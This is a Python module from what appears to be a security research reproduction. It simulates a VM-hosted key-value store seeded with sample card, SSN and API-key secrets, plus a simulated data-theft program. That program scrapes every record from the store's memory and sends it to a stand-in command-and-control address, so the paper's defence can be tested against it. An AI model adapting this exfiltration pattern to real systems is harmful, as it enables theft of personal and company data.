"""A key-value store guest workload (the intro's motivating target).

§1: "Cloud applications are storing ever increasing volumes of data —
data that is often of high value to attackers who wish to steal company
secrets or personal information." This workload is that application: a
small record store whose values live in guest heap memory and persist to
the guest disk, serving get/put traffic over the NIC.

:class:`DataTheftProgram` is the corresponding attack: once triggered it
reads every record straight out of the store's memory and streams them
to an aggregation server — the exact exfiltration Synchronous Safety
nullifies.
"""

import struct

from repro.guest.devices import Packet
from repro.sim.rng import SeededStream
from repro.workloads.base import GuestProgram

_RECORD_SIZE = 96
_VALUE_SIZE = 64


class KeyValueStoreProgram(GuestProgram):
    """An in-guest record store with disk persistence and query traffic."""

    name = "kvstore"

    def __init__(self, records_per_epoch=4, queries_per_epoch=8,
                 disk_block_base=0x100, seed=0):
        super().__init__()
        self.records_per_epoch = records_per_epoch
        self.queries_per_epoch = queries_per_epoch
        self.disk_block_base = disk_block_base
        self._rng = SeededStream(seed, "kvstore")
        self._epoch = 0
        self._pid = None
        self._index = {}  # key -> value vaddr

    def bind(self, vm):
        super().bind(vm)
        process = vm.create_process("kvstored", heap_pages=64,
                                    canary_capacity=4096)
        self._pid = process.pid
        # Seed data: the secrets an attacker wants.
        for key, value in (
            ("user:1:card", "4111-1111-1111-1111"),
            ("user:1:ssn", "078-05-1120"),
            ("api:payments:key", "sk_live_51J9x7wqz"),
        ):
            self.put(key, value)

    @property
    def process(self):
        return self.vm.processes[self._pid]

    # -- store operations (real guest memory + disk) ------------------------

    def put(self, key, value):
        """Insert/overwrite a record; persists to disk as well."""
        process = self.process
        encoded = value.encode("utf-8")[:_VALUE_SIZE]
        # A key's disk slot is its position in the insertion-ordered
        # index (keys are never deleted).
        if key in self._index:
            vaddr = self._index[key]
            slot = list(self._index).index(key)
        else:
            vaddr = process.malloc(_RECORD_SIZE)
            slot = len(self._index)
            self._index[key] = vaddr
        record = key.encode("utf-8")[:30].ljust(32, b"\x00") + \
            encoded.ljust(_VALUE_SIZE, b"\x00")
        process.write(vaddr, record)
        self.vm.disk.write(self.disk_block_base + slot % 256, record)
        return vaddr

    def get(self, key):
        vaddr = self._index.get(key)
        if vaddr is None:
            return None
        raw = self.process.read(vaddr, _RECORD_SIZE)
        return raw[32:].split(b"\x00", 1)[0].decode("utf-8")

    def keys(self):
        return sorted(self._index)

    def record_addresses(self):
        """(key, vaddr) pairs — what an in-guest attacker can learn."""
        return sorted(self._index.items())

    # -- epoch behaviour ------------------------------------------------------

    def step(self, start_ms, interval_ms):
        self._require_bound()
        self._epoch += 1
        for serial in range(self.records_per_epoch):
            self.put(
                "epoch:%d:rec:%d" % (self._epoch, serial),
                "payload-%06d" % self._rng.randint(0, 999999),
            )
        # Serve queries over ordinary (non-secret) records only; the
        # seeded secrets are internal state a well-behaved server never
        # puts on the wire verbatim.
        servable = [key for key in self.keys() if key.startswith("epoch:")]
        for _ in range(self.queries_per_epoch):
            key = self._rng.choice(servable)
            value = self.get(key)
            self.vm.nic.send(
                Packet(
                    "10.0.0.20:6379",
                    "10.0.0.30:%d" % self._rng.randint(40000, 60000),
                    b"VALUE %s %s" % (key.encode(), value.encode()),
                )
            )
        return {"synthetic_dirty": 0}

    def state_dict(self):
        return {"epoch": self._epoch, "pid": self._pid,
                "index": dict(self._index)}

    def load_state_dict(self, state):
        self._epoch = state["epoch"]
        self._pid = state["pid"]
        self._index = dict(state["index"])


class DataTheftProgram(GuestProgram):
    """Bulk exfiltration of a :class:`KeyValueStoreProgram`'s records."""

    name = "data-theft"

    C2_ENDPOINT = ("198.51.100.99", 443)

    def __init__(self, store, trigger_epoch=3):
        super().__init__()
        self.store = store
        self.trigger_epoch = trigger_epoch
        self._epoch = 0
        self._exfiltrated = False

    def step(self, start_ms, interval_ms):
        self._require_bound()
        self._epoch += 1
        if self._epoch != self.trigger_epoch or self._exfiltrated:
            return {"synthetic_dirty": 0}
        # Read every record straight out of the store's heap.
        process = self.store.process
        loot = []
        for key, vaddr in self.store.record_addresses():
            raw = process.read(vaddr, _RECORD_SIZE)
            loot.append(b"%s=%s" % (key.encode(),
                                    raw[32:].split(b"\x00", 1)[0]))
        self.vm.open_socket(
            self.store.process.pid,
            ("10.0.0.20", 4444),
            self.C2_ENDPOINT,
        )
        self.vm.nic.send(
            Packet(
                "10.0.0.20:4444",
                "%s:%d" % self.C2_ENDPOINT,
                b"BEGIN_DUMP\n" + b"\n".join(loot),
            )
        )
        self._exfiltrated = True
        return {"synthetic_dirty": 0}

    @property
    def exfiltrated(self):
        return self._exfiltrated

    def state_dict(self):
        return {"epoch": self._epoch, "exfiltrated": self._exfiltrated}

    def load_state_dict(self, state):
        self._epoch = state["epoch"]
        self._exfiltrated = state["exfiltrated"]
